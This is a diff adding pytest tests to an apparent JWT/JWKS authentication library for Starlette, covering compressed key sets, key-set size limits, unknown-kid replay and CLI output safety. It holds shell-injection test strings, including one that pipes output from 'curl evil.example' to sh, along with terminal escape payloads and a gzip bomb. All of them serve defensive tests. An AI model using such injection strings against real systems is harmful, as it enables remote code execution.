@@ -7,12 +7,20 @@ broadly at the end of ``test_adversarial.py``.
 from __future__ import annotations
 
 import copy
+import gzip
 import json
 import logging
 import math
+import os
+import shlex
+import subprocess
+import sys
+import zlib
 from collections.abc import AsyncIterator, Callable
+from pathlib import Path
 from typing import Any
 
+import anyio
 import httpx
 import pytest
 from cryptography.hazmat.primitives.asymmetric import rsa
@@ -24,13 +32,21 @@ from starlette.responses import JSONResponse, PlainTextResponse
 from starlette.routing import Mount, Route
 from starlette.types import Receive, Scope, Send
 
-from starlette_betterauth import BetterAuthMiddleware, JWKSCache, TokenVerifier, requires_role
+from starlette_betterauth import (
+    BetterAuthMiddleware,
+    JWKSCache,
+    KeySetOptions,
+    TokenVerifier,
+    requires_role,
+)
+from starlette_betterauth.__main__ import main
 from starlette_betterauth.errors import (
     ConfigurationError,
     ExpiredTokenError,
     InvalidSignatureError,
     KeySetInvalidError,
     MalformedTokenError,
+    UnknownKeyError,
     UnsupportedAlgorithmError,
 )
 from starlette_betterauth.testing import Issuer, JWKSServer, SigningKey, b64url
@@ -38,6 +54,8 @@ from starlette_betterauth.testing import Issuer, JWKSServer, SigningKey, b64url
 pytestmark = pytest.mark.anyio
 
 LOGGER = "starlette_betterauth"
+ROOT = Path(__file__).resolve().parent.parent
+RunCLI = Callable[..., tuple[int, str, str]]
 
 
 # -- the app every HTTP test drives -----------------------------------------------------
@@ -596,3 +614,316 @@ async def test_item13_cors_outside_answers_preflights_before_authentication(
     # The refusal carries the CORS headers, so the browser shows the page the 401.
     assert anonymous.status_code == 401
     assert anonymous.headers["access-control-allow-origin"] == "https://app.example"
+
+
+# -- item 5, continued: an unchanged key keeps its cached tokens ----------------------------
+
+
+async def test_item5_unchanged_key_keeps_cached_tokens_across_refetches(
+    server: JWKSServer, issuer: Issuer
+) -> None:
+    seen: list[tuple[str, dict[str, Any]]] = []
+    app = BetterAuthMiddleware(
+        Starlette(routes=[Route("/claims", claims)]),
+        base_url=server.url,
+        on_event=lambda name, data: seen.append((name, dict(data))),
+    )
+    token = issuer.token()
+    async with client_of(app) as c:
+        assert (await c.get("/claims", headers=bearer(token))).status_code == 200
+        key = app.verifier.jwks.keys[issuer.current_key.kid]
+        await app.verifier.jwks.refresh()
+        assert app.verifier.jwks.keys[issuer.current_key.kid] is key
+        assert (await c.get("/claims", headers=bearer(token))).status_code == 200
+        replacement = SigningKey(issuer.current_key.alg, kid=issuer.current_key.kid)
+        server.body = json.dumps({"keys": [replacement.public_jwk]}).encode()
+        await app.verifier.jwks.refresh()
+    accepted = [data["cached"] for name, data in seen if name == "accepted"]
+    assert accepted == [False, True]
+    refreshes = [data for name, data in seen if name == "jwks_refresh"]
+    assert [(r["gained"], r["lost"], r["replaced"]) for r in refreshes] == [
+        ([issuer.current_key.kid], [], []),
+        ([], [], []),
+        ([], [], [issuer.current_key.kid]),
+    ]
+
+
+# -- item 1: compressed key sets are refused before they are decoded -------------------------
+
+
+def gzipped(data: bytes, times: int) -> bytes:
+    for _ in range(times):
+        data = gzip.compress(data, mtime=0)
+    return data
+
+
+@pytest.mark.parametrize(
+    ("encoding", "body"),
+    [
+        ("gzip, gzip", gzipped(b" " * (16 * 1024 * 1024), 2)),
+        ("gzip", gzipped(b'{"keys": []}', 1)),
+        ("deflate", zlib.compress(b'{"keys": []}')),
+        ("br", b"\x0b\x02\x80{}\x03"),
+        ("identity, gzip", gzipped(b"{}", 1)),
+        ("x-unknown", b"{}"),
+    ],
+    ids=["gzip-gzip-bomb", "gzip", "deflate", "br", "identity-then-gzip", "unknown"],
+)
+async def test_item1_content_encoded_key_set_is_refused_undecoded(
+    server: JWKSServer, encoding: str, body: bytes
+) -> None:
+    sent: list[httpx.Headers] = []
+
+    async def record(request: httpx.Request) -> None:
+        sent.append(request.headers)
+
+    server.body = body
+    server.headers = {"Content-Encoding": encoding}
+    async with httpx.AsyncClient(event_hooks={"request": [record]}) as http:
+        cache = JWKSCache(server.jwks_url, client=http)
+        with pytest.raises(KeySetInvalidError) as raised:
+            await cache.refresh()
+    assert raised.value.message == (
+        f"the key server answered Content-Encoding {encoding!r} although the key set is asked "
+        "for uncompressed (Accept-Encoding: identity); serve it without compression"
+    )
+    assert [headers["accept-encoding"] for headers in sent] == ["identity"]
+
+
+@pytest.mark.parametrize("encoding", ["identity", "", "Identity"])
+async def test_item1_identity_encoded_key_set_is_read(
+    server: JWKSServer, issuer: Issuer, encoding: str
+) -> None:
+    server.headers = {"Content-Encoding": encoding}
+    cache = JWKSCache(server.jwks_url)
+    try:
+        assert (await cache.get_key(issuer.current_key.kid)).kid == issuer.current_key.kid
+    finally:
+        await cache.aclose()
+
+
+# -- item 10: key sets over 100 entries ------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("listed", "label"), [(101, "key #100"), (150, "keys #100-#149"), (1000, "keys #100-#999")]
+)
+async def test_item10_keys_past_the_hundredth_are_counted_as_skipped(
+    server: JWKSServer,
+    issuer: Issuer,
+    caplog: pytest.LogCaptureFixture,
+    listed: int,
+    label: str,
+) -> None:
+    caplog.set_level(logging.WARNING, logger=LOGGER)
+    jwk = issuer.current_key.public_jwk
+    server.body = json.dumps({"keys": [dict(jwk, kid=f"k{i}") for i in range(listed)]}).encode()
+    cache = JWKSCache(server.jwks_url)
+    await cache.refresh()
+    await cache.aclose()
+    status = cache.status()
+    assert len(status.kids) == 100
+    reason = (
+        f"the key set lists {listed} keys; only the first 100 are read ({listed - 100} left out)"
+    )
+    assert status.skipped == ((label, reason),)
+    assert f"skipping {label}: {reason}" in caplog.text
+
+
+async def test_item10_skipped_keys_are_logged_in_bounded_lines(
+    server: JWKSServer, issuer: Issuer, caplog: pytest.LogCaptureFixture
+) -> None:
+    caplog.set_level(logging.WARNING, logger=LOGGER)
+    good = issuer.current_key.public_jwk
+    bad = [{"kid": f"hmac-{i}", "kty": "oct", "k": "c2VjcmV0"} for i in range(60)]
+    server.body = json.dumps({"keys": [good, *bad]}).encode()
+    cache = JWKSCache(server.jwks_url)
+    await cache.refresh()
+    await cache.aclose()
+    assert len(cache.status().skipped) == 60
+    lines = [r.getMessage() for r in caplog.records if "skipping" in r.getMessage()]
+    assert len(lines) == 11
+    assert lines[-1].endswith("skipping 50 more keys (KeySetStatus.skipped lists them all)")
+
+
+# -- item 14: a kid the last refetch did not have is refused at once ---------------------------
+
+
+async def test_item14_replayed_unknown_kid_is_refused_without_waiting(
+    server: JWKSServer, issuer: Issuer
+) -> None:
+    cache = JWKSCache(server.jwks_url, options=KeySetOptions(refresh_cooldown=1.0))
+    await cache.get_key(issuer.current_key.kid)
+    with pytest.raises(UnknownKeyError):
+        await cache.get_key("forged-kid")  # waits for the cooldown, then one refetch
+    assert server.requests == 2
+    refused = 0
+
+    async def replay() -> None:
+        nonlocal refused
+        try:
+            await cache.get_key("forged-kid")
+        except UnknownKeyError:
+            refused += 1
+
+    # Inside the cooldown, the kid that refetch did not have neither waits nor
+    # causes another fetch (before: each waited for the cooldown, then refetched).
+    async with anyio.create_task_group() as group:
+        for _ in range(50):
+            group.start_soon(replay)
+    assert refused == 50
+    assert server.requests == 2
+    # A truly new kid still waits for the next refetch and is accepted on first use.
+    rotated = issuer.rotate()
+    assert (await cache.get_key(rotated.kid)).kid == rotated.kid
+    assert server.requests == 3
+    await cache.aclose()
+
+
+async def test_item14_a_missed_kid_that_appears_later_is_accepted(
+    server: JWKSServer, issuer: Issuer
+) -> None:
+    cache = JWKSCache(server.jwks_url, options=KeySetOptions(refresh_cooldown=0.2))
+    late = SigningKey("EdDSA", kid="late-kid")
+    await cache.get_key(issuer.current_key.kid)
+    with pytest.raises(UnknownKeyError):
+        await cache.get_key(late.kid)
+    issuer.keys.append(late)  # published after the refetch that missed it
+    await anyio.sleep(0.3)  # past the cooldown: the kid may trigger a refetch again
+    assert (await cache.get_key(late.kid)).kid == late.kid
+    await cache.aclose()
+
+
+async def test_item14_the_memory_of_missed_kids_is_bounded(
+    server: JWKSServer, issuer: Issuer
+) -> None:
+    cache = JWKSCache(server.jwks_url, options=KeySetOptions(refresh_cooldown=0))
+    await cache.get_key(issuer.current_key.kid)
+    for index in range(1100):
+        with pytest.raises(UnknownKeyError):
+            await cache.get_key(f"forged-{index}")
+    assert len(cache._absent) == 1024
+    assert "forged-0" not in cache._absent
+    assert "forged-1099" in cache._absent
+    await cache.aclose()
+
+
+# -- items 2 and 3: the command line ----------------------------------------------------------
+
+
+@pytest.fixture
+def cli(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> RunCLI:
+    """Run the command line in-process; return (exit code, stdout, stderr)."""
+    monkeypatch.delenv("BETTER_AUTH_URL", raising=False)
+
+    def run(*args: str) -> tuple[int, str, str]:
+        capsys.readouterr()
+        code = main(list(args))
+        out, err = capsys.readouterr()
+        assert "Traceback" not in out + err
+        return code, out, err
+
+    return run
+
+
+HOSTILE_ISSUERS = [
+    "https://auth.example.com/$(touch pwned);curl${IFS}evil.example|sh",
+    "https://auth.example.com/`touch pwned`",
+    "https://auth.example.com/'; touch pwned; echo '",
+    'https://auth.example.com/"$(touch pwned)"',
+    "https://auth.example.com/ && touch pwned",
+    "https://auth.example.com/\n touch pwned",
+    "https://auth.example.com/#; touch pwned",
+]
+
+
+@pytest.mark.parametrize("iss", HOSTILE_ISSUERS, ids=range(len(HOSTILE_ISSUERS)))
+def test_item2_suggested_verify_command_is_quoted(
+    cli: RunCLI, issuer: Issuer, tmp_path: Path, iss: str
+) -> None:
+    code, out, _ = cli("inspect", issuer.token(iss=iss))
+    assert code == 0
+    lines = out.splitlines()
+    suggestion = next(line for line in lines if "starlette-betterauth verify -" in line)
+    assert lines[lines.index(suggestion) - 2 : lines.index(suggestion)] == [
+        "to verify it against the server its iss names (that trusts the token's own",
+        "word: a forged token names its forger's server; prefer your server's URL):",
+    ]
+    # Pasted into a shell, the line passes the issuer as one argument and runs nothing
+    # else: printf stands in for the program.
+    pasted = suggestion.strip().replace("starlette-betterauth", "printf '%s\\n'", 1)
+    shell = subprocess.run(
+        ["/bin/sh", "-c", pasted], cwd=tmp_path, capture_output=True, text=True, check=True
+    )
+    assert shell.stdout.splitlines()[:3] == ["verify", "-", "--base-url"]
+    assert shlex.split(suggestion)[4:] == [shell.stdout.splitlines()[3]]
+    assert list(tmp_path.iterdir()) == []
+
+
+HOSTILE_TEXT = {
+    "c1-csi": "\x9b31mred",
+    "esc-clear-screen": "\x1b[2J",
+    "bidi-override": "\u202eexe.txt",
+    "bidi-isolate": "\u2066x\u2069",
+    "next-line": "a\x85b",
+    "line-separator": "a\u2028b",
+    "bell": "\x07",
+    "soft-hyphen": "a\xadb",
+}
+
+
+def terminal_safe(text: str) -> bool:
+    return all(c.isprintable() or c == "\n" for c in text)
+
+
+@pytest.mark.parametrize("name", HOSTILE_TEXT.values(), ids=list(HOSTILE_TEXT))
+def test_item3_hostile_claims_are_escaped_in_every_output(
+    cli: RunCLI, server: JWKSServer, issuer: Issuer, name: str
+) -> None:
+    token = issuer.token(name=name, email=f"{name}@example.com", role=f"user,{name}")
+    for command in (["inspect", token], ["verify", token, "--base-url", server.url]):
+        code, out, err = cli(*command)
+        assert code == 0
+        assert terminal_safe(out + err), out
+        code, out, err = cli(*command, "--json")
+        assert code == 0
+        assert (out + err).isascii()
+        document = json.loads(out)
+        assert document["claims"]["name"] == name
+
+
+def test_item3_lone_surrogates_never_crash_the_command_line(
+    cli: RunCLI, server: JWKSServer, issuer: Issuer
+) -> None:
+    key = issuer.current_key
+    token = raw_token(key, header_json(key), with_member(issuer, '"nick": "\\ud800"'))
+    for command in (["inspect", token], ["verify", token, "--base-url", server.url]):
+        for json_flag in ((), ("--json",)):
+            code, out, err = cli(*command, *json_flag)
+            assert code == 1
+            assert "not Unicode text" in out
+            assert terminal_safe(out + err)
+    jwk = key.public_jwk
+    server.body = json.dumps({"keys": [jwk, dict(jwk, kid="\ud800\x9b")]}).encode()
+    code, out, err = cli("jwks", "--base-url", server.url)
+    assert code == 0
+    assert "\\ud800\\x9b" in out
+    assert terminal_safe(out + err)
+    code, out, err = cli("jwks", "--base-url", server.url, "--json")
+    assert code == 0
+    assert out.isascii()
+    assert "\ud800\x9b" in [k["kid"] for k in json.loads(out)["keys"]]
+
+
+def test_item3_a_terminal_that_cannot_encode_gets_escapes(issuer: Issuer) -> None:
+    token = issuer.token(name="Jos\xe9 \u2603")
+    result = subprocess.run(
+        [sys.executable, "-m", "starlette_betterauth", "inspect", token],
+        cwd=ROOT,
+        env={**os.environ, "PYTHONIOENCODING": "ascii"},
+        capture_output=True,
+        check=False,
+    )
+    assert result.returncode == 0, result.stderr
+    assert b"Traceback" not in result.stderr
+    assert b'"Jos\\xe9 \\u2603"' in result.stdout
